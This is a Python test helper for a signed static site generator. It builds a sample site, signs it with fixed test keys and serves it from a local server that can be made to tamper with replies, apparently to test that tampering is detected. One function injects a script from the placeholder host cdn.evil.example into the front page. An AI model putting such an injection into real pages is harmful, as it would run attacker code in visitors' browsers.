"""A small signed site, and a server for it that can be told to lie."""

import http.server
import shutil
import socketserver
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, replace
from datetime import datetime
from pathlib import Path
from urllib.parse import unquote

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from generator.proving.signing import Signed, sign_site
from generator.text.publickeys import PublicKey, public_key
from tests.photos import photo
from tests.sites import SETTINGS, article, build_site, write_site

WHEN = datetime.fromisoformat("2020-10-01T12:00:00+08:00")
SITE = "https://example.org/bulletin"
PRIVATE, OTHER = (Ed25519PrivateKey.from_private_bytes(bytes([number]) * 32) for number in (1, 2))
KEY, OTHER_KEY = (public_key(private.public_key().public_bytes_raw()) for private in (PRIVATE, OTHER))

GEN_YAML = SETTINGS + "static: {allow: [_headers]}\n"
FILES: dict[str, str | bytes] = {
    "gen.yaml": GEN_YAML,
    "content/news/water.md": article("停水通知。请写信到 <office@example.org>。", title="停水"),
    "content/news/bridge.md": article("桥修好了。", title="大桥"),
    "content/about.md": article("关于我们。", title="关于", date="", aliases="/old-about/"),
    "content/static/photo.png": photo(8, 8),
    "content/static/_headers": "/*\n  X-Frame-Options: DENY\n",
}


def make_site(root: Path) -> None:
    """Build the site and sign it."""
    write_site(root, FILES)
    build_site(root)
    sign(root)


def sign(
    root: Path,
    when: datetime = WHEN,
    key: PublicKey = KEY,
    changes: tuple[str, ...] = (),
    site: str = SITE,
    answers: Mapping[str, str] = {},
) -> Signed:
    private = PRIVATE if key == KEY else OTHER
    return sign_site(
        root / "site", root / ".gen", site, key, changes, 90, when, lambda: private.sign, answered=answers
    )


def copied(site: Path, to: Path) -> Path:
    shutil.copytree(site, to)
    return to


# ---- a server


@dataclass(frozen=True, slots=True)
class Reply:
    status: int
    body: bytes
    headers: Mapping[str, str]
    length: int | None = None
    """What is promised, where that is another than the body's."""

    def having(self, **headers: str) -> "Reply":
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        return replace(self, headers={**self.headers, **named})


@dataclass(frozen=True, slots=True)
class Request:
    path: str
    """With its query."""
    headers: Mapping[str, str]


Lie = Callable[[Request, Reply], "Reply | bytes"]
"""What a server makes of a right answer; bytes are sent as they are, and the connection ends."""

_TYPES = {
    "html": "text/html; charset=utf-8",
    "css": "text/css",
    "js": "text/javascript",
    "xml": "application/xml",
    "json": "application/json",
    "svg": "image/svg+xml",
    "txt": "text/plain",
    "png": "image/png",
}


def right(folder: Path, path: str) -> Reply:
    """What a sound server answers."""
    name = unquote(path.partition("?")[0]).lstrip("/")
    file = folder / (name + "index.html" if not name or name.endswith("/") else name)
    status = 200 if file.is_file() else 404
    file = file if status == 200 else folder / "404.html"
    kind = _TYPES.get(file.suffix[1:], "application/octet-stream")
    return Reply(status, file.read_bytes(), {"Content-Type": kind, "X-Frame-Options": "DENY"})


class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    wbufsize = -1  # the head and the body in one piece
    server: "Server"

    def do_GET(self) -> None:
        request = Request(self.path, {name.lower(): value for name, value in self.headers.items()})
        reply = self.server.lie(request, right(self.server.folder, self.path))
        if isinstance(reply, bytes):
            self.wfile.write(reply)
            self.close_connection = True
            return
        self.send_response_only(reply.status)
        for name, value in reply.headers.items():
            self.send_header(name, value)
        if reply.headers.get("Transfer-Encoding") == "chunked":
            reply = replace(reply, body=b"%x\r\n%s\r\n0\r\n\r\n" % (len(reply.body), reply.body))
        else:
            length = len(reply.body) if reply.length is None else reply.length
            self.send_header("Content-Length", str(length))
            self.close_connection = length != len(reply.body)
        self.end_headers()
        self.wfile.write(reply.body)

    def log_message(self, format: str, *arguments: object) -> None:
        pass


class Server(http.server.ThreadingHTTPServer):
    """Serves a folder as it is, or as `lie` has it."""

    folder: Path
    lie: Lie

    def server_bind(self) -> None:
        socketserver.TCPServer.server_bind(self)  # without asking for the host's name

    def handle_error(self, request: object, client_address: object) -> None:
        pass  # those who look at lies hang up

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@contextmanager
def serving(folder: Path) -> Iterator[Server]:
    """A server for a folder."""
    with Server(("127.0.0.1", 0), _Handler) as server:
        server.folder = folder
        server.lie = honest
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        yield server
        server.shutdown()


def honest(request: Request, reply: Reply) -> Reply:
    return reply


def adding_script(request: Request, reply: Reply) -> Reply:
    """A lie about the front page, told to everybody."""
    if request.path.partition("?")[0] != "/":
        return reply
    return replace(
        reply, body=reply.body.replace(b"</body>", b"<script src=//cdn.evil.example/j.js></script></body>")
    )
